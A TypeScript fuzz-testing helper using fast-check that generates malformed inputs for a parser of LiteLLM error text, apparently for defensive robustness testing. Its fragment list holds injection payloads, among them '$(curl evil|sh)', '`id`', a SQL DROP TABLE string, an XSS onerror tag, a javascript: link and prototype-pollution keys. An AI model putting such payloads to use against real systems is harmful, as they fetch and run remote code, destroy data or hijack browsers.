/** How many inputs each property is tried with: a share in `npm test`, 10,000 and more in `npm run fuzz`. */
import fc from 'fast-check';
import { afterAll } from 'vitest';

const runs = Number(process.env.FUZZ_RUNS ?? 200);
const seed = process.env.FUZZ_SEED === undefined ? undefined : Number(process.env.FUZZ_SEED);

let tried = 0;
if (process.env.FUZZ_RUNS !== undefined) afterAll(() => console.info(`${tried.toLocaleString('en')} inputs in this file`));

/** `cost`: how many times dearer than a plain input one of this property is; it gets so many fewer. */
export function check<T>(arbitrary: fc.Arbitrary<T>, property: (value: T) => void, cost = 1): void {
  const silent = (value: T) => {
    tried++;
    property(value); // fast-check takes a returned false for a failure, and matchers return what they like
  };
  fc.assert(fc.property(arbitrary, silent), {
    numRuns: Math.max(20, Math.round(runs / cost)),
    ...(seed !== undefined && { seed }),
    endOnFailure: process.env.FUZZ_RUNS === undefined, // the long run shrinks, the short one says the seed
  });
}

/** Characters that mean something to somebody: shells, YAML, JSON, Markdown, HTML, terminals, bidi, zero width, halves of pairs. */
export const hostileCharacter = fc.constantFrom(
  ...'\'"`\\$;&|<>(){}[]!#%^~*?=,:@+-_/. \n\r\t\0\x1b\x7f',
  '\u0085',
  '\u00a0',
  '\u200b',
  '\u200f',
  '\u202e',
  '\u2028',
  '\u2066',
  '\ufeff',
  '\ud800',
  '\udfff',
  '‹',
  '›',
  '’',
  'İ',
  'ß',
  '𝒜',
);

/** Fragments that break things when they meet: starts and ends of what the engine and its output take for structure. */
const piece = fc.constantFrom(
  'litellm.',
  'litellm.RateLimitError: ',
  'RateLimitError: OpenAIException - ',
  'Traceback (most recent call last):\n',
  '  File "/usr/lib/python3/site-packages/litellm/main.py", line 1, in f\n',
  'During handling of the above exception, another exception occurred:\n',
  ' Received Model Group=',
  'Error doing the fallback: ',
  "Error code: 429 - {'error': {'message': '",
  '{"error":{"message":"',
  '","type":"None","param":"None","code":"429"}}',
  'data: {"error": ',
  '\x1b[92m',
  '[92m',
  '\\n',
  '\\"',
  '\\\\\\"',
  '&amp;quot;',
  '\\xe2\\x80\\x99',
  "b'",
  '$(curl evil|sh)',
  '`id`',
  "'; DROP TABLE x; --",
  '{{model}}',
  '__proto__',
  'constructor',
  '<img src=x onerror=alert(1)>',
  '[x](javascript:alert(1))',
  'https://user:pass@host/',
  '1.83.14-stable',
  'litellm==1.83.4',
);

/** Texts that look like the ones the engine reads, broken in every way. */
export const hostileText = fc
  .array(
    fc.oneof(
      { weight: 3, arbitrary: piece },
      { weight: 2, arbitrary: hostileCharacter },
      { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 12 }) },
    ),
    {
      maxLength: 30,
    },
  )
  .map((parts) => parts.join(''));
